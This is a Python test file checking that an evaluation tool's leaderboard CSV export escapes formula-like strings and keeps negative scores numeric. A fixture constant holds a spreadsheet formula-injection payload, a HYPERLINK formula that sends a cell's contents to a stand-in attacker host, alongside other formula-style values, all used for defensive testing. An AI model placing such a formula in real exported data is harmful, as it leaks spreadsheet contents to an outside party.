"""The report's CSV: strings a spreadsheet would run as formulas are quoted, and numbers
(negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io

from evalq.read.leaderboard import LeaderboardEntry, LeaderboardReport
from evalq.read.report_data import ReportData, Run
from evalq.report.tabular import render_csv

TOOL = '=HYPERLINK("http://evil.example/?"&A1,"open")'
MODEL = "@SUM(1+1)"
VARIANT = "-2+3"


def entry(submission_id: str, *, tool: str, model: str, variant: str | None) -> LeaderboardEntry:
    """A ranked Arena entry whose scores include negative numbers."""
    return LeaderboardEntry(
        rank=1,
        submission_id=submission_id,
        tool=tool,
        model=model,
        variant=variant,
        status="done",
        ranking_value=-3.5,
        partial=False,
        not_reported=[],
        review=None,
        held=False,
        flags=[],
        warnings=[],
        overall=-3.5,
        overall_adjusted=-3.5,
        efficiency=-1.25,
        speed=0.0,
        cost=10.0,
        correctness=-0.5,
        category_ranks=None,
        percentile=50.0,
        peerread=None,
        recommendation=None,
        scylla_composite=None,
        scylla_grade=None,
        suite_passed=None,
        suite_final_score=None,
        rank_interval=None,
        rank_interval_note=None,
        not_separable_from=[],
    )


def report_of(*entries: LeaderboardEntry) -> ReportData:
    """Only what the CSV and JSON read (built without the rest of a board's figures)."""
    board = LeaderboardReport.model_construct(
        task_id="t", kind="arena", ranking_key="overall", entries=list(entries)
    )
    runs = {
        e.submission_id: Run(submission_id=e.submission_id, cost_usd=-0.0, execution_time=2.5)
        for e in entries
    }
    return ReportData.model_construct(leaderboard=board, runs=runs, tier_gaps=[])


def test_formula_strings_are_quoted_and_negative_numbers_stay_numbers() -> None:
    data = report_of(
        entry("=1+1", tool=TOOL, model=MODEL, variant=VARIANT),
        entry("plain", tool="claude-code", model="'=quoted", variant=None),
    )
    rows = list(csv.DictReader(io.StringIO(render_csv(data))))
    hostile, plain = rows
    assert hostile["submission_id"] == "'=1+1"
    assert (hostile["tool"], hostile["model"], hostile["variant"]) == (
        "'" + TOOL,
        "'" + MODEL,
        "'" + VARIANT,
    )
    assert plain["model"] == "''=quoted" and plain["tool"] == "claude-code"
    for row in rows:
        assert (row["ranking_value"], row["overall"], row["efficiency"]) == (
            "-3.5",
            "-3.5",
            "-1.25",
        )
        assert (row["correctness"], row["cost_usd"]) == ("-0.5", "-0.0")
    for row in rows:
        assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in row.values())
